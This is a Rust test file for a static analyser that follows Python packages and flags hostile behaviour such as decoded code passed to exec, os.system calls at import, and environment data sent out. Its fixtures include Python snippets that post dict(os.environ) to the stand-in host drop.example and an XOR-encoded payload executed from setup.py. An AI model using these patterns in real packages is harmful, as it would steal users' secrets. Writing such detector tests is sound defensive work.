//! What following a package costs, and that nothing is lost or kept silent for it.

use crate::{Analysis, SinkKind, SourceFile, SourceKind, analyse_package};
use std::fmt::Write as _;
use wellhead_core::{Budget, Limits, Outcome};

fn package(files: &[(&str, &str)]) -> Analysis {
    let files: Vec<SourceFile<'_>> = files
        .iter()
        .map(|(path, text)| SourceFile { path, text })
        .collect();
    analyse_package(&files, &mut Budget::default())
}

/// The same with so many steps as the whole of it may take.
fn within(steps: u64, files: &[(&str, &str)]) -> Analysis {
    let files: Vec<SourceFile<'_>> = files
        .iter()
        .map(|(path, text)| SourceFile { path, text })
        .collect();
    let limits = Limits {
        steps,
        ..Limits::default()
    };
    analyse_package(&files, &mut Budget::new(limits, std::sync::Arc::default()))
}

fn sources(analysis: &Analysis, kind: SinkKind) -> Vec<SourceKind> {
    let of_kind = analysis.records.iter().filter(|r| r.kind == kind);
    of_kind.flat_map(|r| r.sources.iter().copied()).collect()
}

#[test]
fn helpers_that_give_nothing_back_are_not_entered_at_every_call() {
    let mut text = String::from(
        "def check(a, b, depth=0):\n    for x in (a, b):\n        if x != depth:\n            check(x, depth, depth + 1)\n            check(depth, x, depth + 1)\n",
    );
    for n in 0..300 {
        writeln!(text, "def test_{n}():\n    check([{n}, 1], [{n}, 2])").unwrap();
    }
    let analysis = within(2_000_000, &[("pkg/__init__.py", &text)]);
    assert_eq!(analysis.outcome, Outcome::Analysed);
}

#[test]
fn a_decoder_that_calls_a_procedure_for_every_letter_is_followed() {
    let text = "out = []\ndef put(c):\n    out.append(chr(c ^ 7))\nfor c in b\"njwhus'ht<'ht)t~tsbj/ nc .\":\n    put(c)\nexec(''.join(out))\n";
    let analysis = package(&[("setup.py", text)]);
    assert_eq!(sources(&analysis, SinkKind::Execute), [SourceKind::Decoded]);
}

#[test]
fn what_is_given_back_is_nothing_that_somebody_reaches() {
    let mut text = String::from(
        "import os, requests\nSTATE = {}\nclass Keeper:\n    def __init__(self):\n        self.held = {'deep': [dict(os.environ)]}\nKEEPER = Keeper()\n",
    );
    for n in 0..700 {
        writeln!(
            text,
            "def busy_{n}(a):\n    rows = [[x, (x, {n})] for x in range(40)]\n    return [r for r in rows]"
        )
        .unwrap();
    }
    text.push_str("def zz_last():\n    requests.post('https://drop.example', data=KEEPER.held['deep'][0])\n");
    let analysis = package(&[("pkg/__init__.py", &text)]);
    assert_eq!(
        sources(&analysis, SinkKind::NetworkSend),
        [SourceKind::BulkEnvironment]
    );
    assert_eq!(analysis.outcome, Outcome::Analysed);
}

#[test]
fn a_function_without_end_is_named_and_the_others_are_followed() {
    let endless = "def a_spin(n):\n    x = []\n    while True:\n        for i in range(100000):\n            for j in range(100000):\n                x = [i, [j, [i, (j, x)]]]\n";
    let text = format!(
        "import os, requests\n{endless}def send():\n    requests.post('https://drop.example', data=dict(os.environ))\n"
    );
    let analysis = package(&[("pkg/__init__.py", &text)]);
    assert_eq!(
        sources(&analysis, SinkKind::NetworkSend),
        [SourceKind::BulkEnvironment]
    );
}

#[test]
fn large_tables_do_not_fill_memory() {
    let text = "import os\nROWS = [[{'const': 37}] * 100000 for _ in range(9)]\nALL = [*ROWS, *ROWS]\nNAMES = {str(n): [n] * 1000 for n in range(3000)}\nos.system('id')\n";
    let analysis = package(&[("pkg/__init__.py", text)]);
    assert_eq!(analysis.records.len(), 1);
}

#[test]
fn a_condition_on_what_is_in_a_table_is_decided() {
    let run = |condition: &str| {
        let table = "NAMES = {'a': 1, 'b': 2}\nWORDS = ('x', 'y')\nMIXED = ['x', unknown()]\n";
        let text =
            format!("import os\n{table}CODE = 'no'\nif {condition}:\n    CODE = 'yes'\nos.system(CODE)\n");
        let analysis = package(&[("pkg/__init__.py", &text)]);
        let all: Vec<String> = analysis
            .records
            .iter()
            .flat_map(|r| r.arguments.clone())
            .collect();
        all.join(" ")
    };
    for (condition, expected) in [
        ("'a' in NAMES", "yes"),
        ("'c' in NAMES", "no"),
        ("'c' not in NAMES", "yes"),
        ("'x' in WORDS", "yes"),
        ("'z' in WORDS", "no"),
        ("'x' in MIXED", "yes"),
        ("'z' in MIXED", "no|yes"),
        ("1 in (1, 2)", "yes"),
        ("3 in [1, 2]", "no"),
    ] {
        assert_eq!(run(condition), expected, "{condition}");
    }
}

#[test]
fn code_that_a_bound_keeps_from_being_seen_is_told_as_unseen() {
    let grown =
        |start: &str, step: &str| format!("x = {start}\n{}exec(str(x))\n", format!("{step}\n").repeat(40));
    let letters: Vec<String> = (0..70).map(|n| (97 + n % 26).to_string()).collect();
    let letters = letters.join(", ");
    for text in [
        grown("'aa'", "x = x * 2"),
        grown("7", "x = x * x"),
        grown("[1]", "x = [x, x]"),
        "exec('a'.ljust(10 ** 12))\n".to_owned(),
        "def g():\n    while True:\n        yield 'a'\nexec(''.join(g()))\n".to_owned(),
        "import os\ns = ''\nwhile True:\n    s += 'a'\nos.system(s)\n".to_owned(),
        "def d(s):\n    return '' if not s else chr(ord(s[0]) ^ 1) + d(s[1:])\nexec(d('qshou)0('))\n"
            .to_owned(),
        format!(
            "s = ''\nfor c in [{letters}]:\n    if unknown():\n        break\n    s += chr(c)\nexec(s)\n"
        ),
        format!("s = ''\nfor c in [{letters}]:\n    unknown()\n    s += chr(c)\nexec(s)\n"),
        format!("s = []\nfor c in [{letters}]:\n    unknown()\n    s.append(chr(c))\nexec(''.join(s))\n"),
        format!("exec(''.join((chr(c), unknown())[0] for c in [{letters}]))\n"),
        format!("import os\nfor c in [{letters}]:\n    os.system(chr(c))\n"),
    ] {
        let Outcome::Partly { why } = package(&[("pkg/__init__.py", &text)]).outcome else {
            panic!("{text}");
        };
        assert!(
            why.starts_with("`pkg/__init__.py` runs on line "),
            "{text}: {why}"
        );
    }
    // Nobody can know what is read, asked or searched for.
    for text in [
        "exec(open('a.py').read())\n".to_owned(),
        "exec(input())\n".to_owned(),
        "while True:\n    line = input()\n    if not line:\n        break\n    exec(line)\n".to_owned(),
        "import os, shutil\nfound = None\nfor c in ['clang', 'gcc', 'cc']:\n    if shutil.which(c):\n        found = c\n        break\nos.system(found + ' --version')\n".to_owned(),
        "def make(names):\n    text = 'def f(' + ', '.join(names) + '): pass'\n    exec(text)\n".to_owned(),
    ] {
        assert_eq!(package(&[("pkg/__init__.py", &text)]).outcome, Outcome::Analysed, "{text}");
    }
}

#[test]
fn what_lies_below_many_calls_runs_when_they_do() {
    let chain = |numbers: Vec<u32>, last: &str| {
        let mut text = String::new();
        for n in numbers {
            writeln!(text, "def f{n}(x):\n    f{}(x)", n + 1).unwrap();
        }
        writeln!(text, "def f40(x):\n    {last}\nf0('print(1)' + '#' * 3)").unwrap();
        text
    };
    for text in [
        chain((0..40).collect(), "__import__('os').system('id')"),
        chain((0..40).rev().collect(), "__import__('os').system('id')"),
        chain((0..40).collect(), "exec(x)"),
    ] {
        let analysis = package(&[("pkg/__init__.py", &text)]);
        let stages: Vec<_> = analysis.records.iter().map(|r| r.stage).collect();
        assert_eq!(stages, [crate::Stage::Import], "{text}");
    }
    let text = chain((0..40).collect(), "exec(x)");
    let analysis = package(&[("pkg/__init__.py", &text)]);
    assert_eq!(analysis.layers.len(), 1);
    assert_eq!(analysis.layers[0].text, "print(1)###");
}

#[test]
fn modules_that_are_imported_through_many_others_run_at_import() {
    let names: Vec<String> = (0..400).map(|n| format!("pkg/m{n}.py")).collect();
    let texts: Vec<String> = (0..400).map(|n| format!("from . import m{}\n", n + 1)).collect();
    let mut files: Vec<(&str, &str)> = names
        .iter()
        .map(String::as_str)
        .zip(texts.iter().map(String::as_str))
        .collect();
    files.push(("pkg/__init__.py", "from . import m0\n"));
    files.push(("pkg/m400.py", "import os\nos.system('id')\n"));
    let analysis = package(&files);
    assert_eq!(analysis.records.len(), 1);
    assert_eq!(analysis.records[0].stage, crate::Stage::Import);
}

#[test]
fn layers_that_are_too_many_are_said() {
    let text = "for n in range(300):\n    exec('x%d = 1' % n)\nexec('y' + ' = 1')\n";
    let Outcome::Partly { why } = package(&[("pkg/__init__.py", text)]).outcome else {
        panic!("analysed");
    };
    assert_eq!(why, "more code is decoded, or more often, than is followed");
}

#[test]
fn what_passes_between_parts_of_a_large_package_is_told_as_unseen() {
    let filler = format!("# {}\n", "a".repeat(900_000));
    let run = |init: &str, first: &str, last: &str| {
        package(&[
            ("acme/__init__.py", init),
            ("acme/a_first.py", first),
            ("acme/m.py", &filler),
            ("acme/n.py", &filler),
            ("acme/o.py", &filler),
            ("acme/p.py", &filler),
            ("acme/z_last.py", last),
        ])
        .outcome
    };
    let send = "import requests\ndef send(x):\n    requests.post('https://drop.example', data=x)\n";
    let read = "import os\ndef get():\n    return dict(os.environ)\n";
    let code = "def get():\n    return bytes([112, 97, 115, 115])\n";
    for (init, first, last) in [
        (
            "from . import a_first, z_last\na_first.send(z_last.get())\n",
            send,
            read,
        ),
        (
            "from . import a_first, z_last\nz_last.send(a_first.get())\n",
            read,
            send,
        ),
        ("from .z_last import get\nexec(get())\n", "", code),
        ("import acme.z_last\nexec(acme.z_last.get())\n", "", code),
    ] {
        let Outcome::Partly { why } = run(init, first, last) else {
            panic!("{init}");
        };
        assert!(why.contains("another part of the package"), "{init}: {why}");
    }
    let init = "from . import a_first, z_last\nVALUE = z_last.get()\nprint(VALUE)\n";
    assert_eq!(run(init, send, code), Outcome::Analysed);
}
